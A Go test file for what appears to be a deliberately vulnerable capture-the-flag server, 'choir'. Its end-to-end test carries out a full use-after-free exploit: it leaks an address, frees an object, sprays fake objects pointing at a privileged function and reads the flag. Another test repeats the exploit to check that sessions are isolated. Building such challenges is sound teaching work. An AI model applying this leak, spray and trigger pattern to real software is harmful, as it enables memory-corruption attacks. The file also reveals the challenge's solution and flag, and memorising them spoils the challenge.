package choir

import (
	"context"
	"encoding/binary"
	"io"
	"net"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/prometheus/client_golang/prometheus"
	"github.com/stretchr/testify/require"
	"gitlab.com/stephen-fox/uafkit/memory"
)

const testSecret = "flag{choir_invisible}"

func startTestServer(t *testing.T) (string, *prometheus.Registry) {
	t.Helper()

	secretPath := filepath.Join(t.TempDir(), "flag.txt")
	require.NoError(t, os.WriteFile(secretPath, []byte(testSecret), 0o600))

	reg := prometheus.NewRegistry()

	server := NewServer(ServerConfig{
		Arena: ArenaConfig{
			SecretPath: secretPath,
		},
		SessionTimeout: 10 * time.Second,
		OptMetrics:     NewMetrics(reg),
	})

	ctx, cancelFn := context.WithCancel(context.Background())

	ln, err := Listen(ctx, "127.0.0.1:0")
	require.NoError(t, err)

	done := make(chan error, 1)
	go func() {
		done <- server.Serve(ctx, ln)
	}()

	t.Cleanup(func() {
		cancelFn()
		require.NoError(t, <-done)
	})

	return ln.Addr().String(), reg
}

func dialTestServer(t *testing.T, addr string) *Client {
	t.Helper()

	client, err := Dial(context.Background(), addr)
	require.NoError(t, err)

	t.Cleanup(func() {
		_ = client.Close()
	})

	return client
}

func counterValue(t *testing.T, reg *prometheus.Registry, name string) float64 {
	t.Helper()

	families, err := reg.Gather()
	require.NoError(t, err)

	total := 0.0

	for _, family := range families {
		if family.GetName() != name {
			continue
		}

		for _, m := range family.GetMetric() {
			total += m.GetCounter().GetValue()
		}
	}

	return total
}

func TestServer_EndToEndExploit(t *testing.T) {
	addr, reg := startTestServer(t)
	client := dialTestServer(t, addr)

	_, err := client.ReadSecret()
	require.True(t, IsStatus(err, StatusPermissionDenied), "got %v", err)

	leak, err := client.Leak()
	require.NoError(t, err)
	require.Equal(t, uint64(TextBase+0x10), leak.GiveRoot)

	require.NoError(t, client.Create(0))
	require.NoError(t, client.Free(0))

	fill := make([]byte, ObjectSize)
	copy(fill, memory.PointerMakerForX86_64().FromUint(leak.GiveRoot).Bytes())

	require.NoError(t, client.Spray(64, fill))
	require.NoError(t, client.Trigger(0))

	secret, err := client.ReadSecret()
	require.NoError(t, err)
	require.Equal(t, testSecret, string(secret))

	require.NoError(t, client.Close())

	require.Eventually(t, func() bool {
		return counterValue(t, reg, "choir_gate_openings_total") == 1
	}, 5*time.Second, 10*time.Millisecond)

	require.Equal(t, 64.0, counterValue(t, reg, "choir_sprayed_chunks_total"))
}

func TestServer_SessionsAreIsolated(t *testing.T) {
	addr, _ := startTestServer(t)

	attacker := dialTestServer(t, addr)
	bystander := dialTestServer(t, addr)

	leak, err := attacker.Leak()
	require.NoError(t, err)

	require.NoError(t, bystander.Create(0))

	require.NoError(t, attacker.Create(0))
	require.NoError(t, attacker.Free(0))

	fill := make([]byte, ObjectSize)
	copy(fill, memory.PointerMakerForX86_64().FromUint(leak.GiveRoot).Bytes())

	require.NoError(t, attacker.Spray(1, fill))
	require.NoError(t, attacker.Trigger(0))

	_, err = attacker.ReadSecret()
	require.NoError(t, err)

	_, err = bystander.ReadSecret()
	require.True(t, IsStatus(err, StatusPermissionDenied), "got %v", err)

	err = bystander.Create(0)
	require.True(t, IsStatus(err, StatusBusy), "got %v", err)

	require.NoError(t, bystander.Trigger(0))
}

func TestServer_MalformedFrameEndsSession(t *testing.T) {
	addr, reg := startTestServer(t)

	c, err := net.Dial("tcp", addr)
	require.NoError(t, err)
	defer c.Close()

	// Create with an argument length larger than any request.
	hdr := make([]byte, 8)
	binary.LittleEndian.PutUint32(hdr, OpCreate)
	binary.LittleEndian.PutUint32(hdr[4:], 0xffffffff)

	_, err = c.Write(hdr)
	require.NoError(t, err)

	require.NoError(t, c.SetReadDeadline(time.Now().Add(5*time.Second)))

	_, err = c.Read(make([]byte, 1))
	require.ErrorIs(t, err, io.EOF)

	require.Eventually(t, func() bool {
		return counterValue(t, reg, "choir_aborted_sessions_total") == 1
	}, 5*time.Second, 10*time.Millisecond)
}

func TestServer_DoubleFreeEndsSession(t *testing.T) {
	addr, _ := startTestServer(t)
	client := dialTestServer(t, addr)

	require.NoError(t, client.Create(7))
	require.NoError(t, client.Free(7))

	err := client.Free(7)
	require.Error(t, err)
	require.False(t, IsStatus(err, StatusOK))

	_, err = client.Leak()
	require.Error(t, err)
}

func TestServer_RoundTripThroughClient(t *testing.T) {
	addr, _ := startTestServer(t)
	client := dialTestServer(t, addr)

	require.NoError(t, client.Create(1))
	require.NoError(t, client.SetPayloadN(1, 3, []byte("abcdef")))

	payload, err := client.ReadPayload(1)
	require.NoError(t, err)
	require.Len(t, payload, PayloadSize)
	require.Equal(t, "abc", string(payload[:3]))
	require.Equal(t, byte(0), payload[3])

	resp, err := client.Do(0x1234, nil)
	require.NoError(t, err)
	require.Equal(t, uint32(StatusUnknownOp), resp.Status)
	require.Equal(t, "bad op", string(resp.Body))
}

type pipeRW struct {
	*io.PipeReader
	io.Writer
}

func TestServer_ServeRW_TimeoutUnblocksRead(t *testing.T) {
	server := NewServer(ServerConfig{
		SessionTimeout: 200 * time.Millisecond,
	})

	pr, pw := io.Pipe()
	defer pw.Close()

	done := make(chan error, 1)
	go func() {
		done <- server.ServeRW(context.Background(), "pipe", pipeRW{
			PipeReader: pr,
			Writer:     io.Discard,
		})
	}()

	select {
	case err := <-done:
		require.ErrorIs(t, err, context.DeadlineExceeded)
	case <-time.After(5 * time.Second):
		t.Fatal("session is still blocked reading after its timeout")
	}
}

func TestServer_ServeRW_CanceledContextUnblocksRead(t *testing.T) {
	server := NewServer(ServerConfig{})

	pr, pw := io.Pipe()
	defer pw.Close()

	ctx, cancelFn := context.WithCancel(context.Background())

	done := make(chan error, 1)
	go func() {
		done <- server.ServeRW(ctx, "pipe", pipeRW{
			PipeReader: pr,
			Writer:     io.Discard,
		})
	}()

	cancelFn()

	select {
	case err := <-done:
		require.ErrorIs(t, err, context.Canceled)
	case <-time.After(5 * time.Second):
		t.Fatal("session is still blocked reading after cancellation")
	}
}
